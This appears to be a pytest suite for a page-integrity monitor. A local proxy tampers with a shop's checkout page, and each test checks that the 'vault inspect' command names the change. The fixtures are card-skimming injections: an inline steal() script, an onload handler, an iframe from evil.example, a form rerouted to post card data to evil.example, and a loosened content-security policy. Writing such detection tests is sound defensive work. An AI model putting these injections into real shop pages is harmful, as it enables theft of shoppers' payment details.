"""Somebody between the shop and its shoppers changes the page that asks for cards: the hourly look finds it."""

from __future__ import annotations

import asyncio
import os
import subprocess
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web

from tests.journeys.conftest import Shelve
from tests.journeys.shops import HAAT, Shop, lasting_ports

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("desk")]
Change = Callable[[bytes, dict[str, str]], bytes]


class Between:
    """Hands everything on, and does to the checkout what `change` says."""

    def __init__(self, shop: str) -> None:
        self._shop = shop
        self.change: Change = lambda body, _: body
        self.where = "/checkout"

    async def answer(self, request: web.Request) -> web.Response:
        passed = {name: value for name, value in request.headers.items() if name not in ("Host", "Accept-Encoding")}
        async with (
            aiohttp.ClientSession(auto_decompress=False, cookie_jar=aiohttp.DummyCookieJar()) as session,
            session.request(
                request.method, self._shop + request.path_qs, data=await request.read(), headers=passed
            ) as answer,
        ):
            body, headers = await answer.read(), {**answer.headers}
        for name in ("Content-Length", "Transfer-Encoding", "Date", "Server"):
            headers.pop(name.lower(), headers.pop(name, None))
        if request.path.startswith(self.where):
            body = self.change(body, headers)
        return web.Response(body=body, status=answer.status, headers=headers)


@pytest.fixture
async def between(desk: Shop, shelve: Shelve) -> AsyncIterator[Between]:
    await shelve()
    made, app = Between(desk.url), web.Application()
    app.router.add_route("*", "/{path:.*}", made.answer)
    runner = web.AppRunner(app)
    await runner.setup()
    made.port = next(lasting_ports())  # type: ignore[attr-defined]
    await web.TCPSite(runner, "127.0.0.1", made.port).start()  # type: ignore[attr-defined]
    yield made
    await runner.cleanup()


@pytest.fixture
def look(between: Any, tmp_path: Path) -> Callable[..., Any]:
    """What the command says, and its exit status."""

    async def run(*more: str) -> tuple[int, list[str]]:
        command = [*HAAT, "vault", "inspect", f"http://127.0.0.1:{between.port}", *more]
        environment = {**os.environ, "HAAT_DATA": str(tmp_path)}
        done = await asyncio.to_thread(subprocess.run, command, env=environment, capture_output=True, text=True)
        return done.returncode, done.stdout.splitlines()[:-1]

    return run


def header(body: bytes, headers: dict[str, str]) -> bytes:
    name = next(name for name in headers if name.lower() == "content-security-policy")
    headers[name] = headers[name].replace("script-src 'self'", "script-src 'self' https://cdn.example")
    return body


CHANGES: dict[str, tuple[str, Change, list[str]]] = {
    "script added": (
        "/checkout",
        lambda body, _: body.replace(b"</head>", b"<script>steal()</script></head>"),
        ["added: page inline script"],
    ),
    "handler added": (
        "/checkout",
        lambda body, _: body.replace(b"<body", b'<body onload="steal()"'),
        ["added: page handler onload of body"],
    ),
    "frame laid over": (
        "/checkout",
        lambda body, _: body.replace(b"</body>", b'<iframe src="https://evil.example"></iframe></body>'),
        ["added: page iframe"],
    ),
    "header changed": ("/checkout", header, ["changed: page header content-security-policy"]),
    "form led elsewhere": (
        "/checkout",
        lambda body, _: body.replace(b'method="post" action="/checkout"', b'method="post" action="https://evil.example"'),
        ["changed: page form"],
    ),
}  # fmt: skip


async def test_an_approved_page_stays_approved(look: Any):
    assert (await look("--approve"))[0] == 0
    assert await look() == (0, [])


@pytest.mark.parametrize("name", CHANGES)
async def test_a_change_of_the_page_is_named(name: str, between: Any, look: Any):
    await look("--approve")
    between.where, between.change, expected = CHANGES[name]
    status, told = await look()
    assert (status, [line.partition(" (")[0] for line in told]) == (1, expected)


async def test_a_script_with_other_content_and_one_that_is_gone_are_named(between: Any, look: Any):
    await look("--approve")
    between.where, between.change = "/assets/", lambda body, _: body + b"steal()"
    status, told = await look()
    assert (status, {line.partition(" /")[0] for line in told}) == (1, {"changed: page script"})
    between.where, between.change = "/checkout", lambda body, _: body.replace(b"<script ", b"<link ")
    status, told = await look()
    assert (status, {line.partition(" /")[0] for line in told}) == (1, {"removed: page script"})
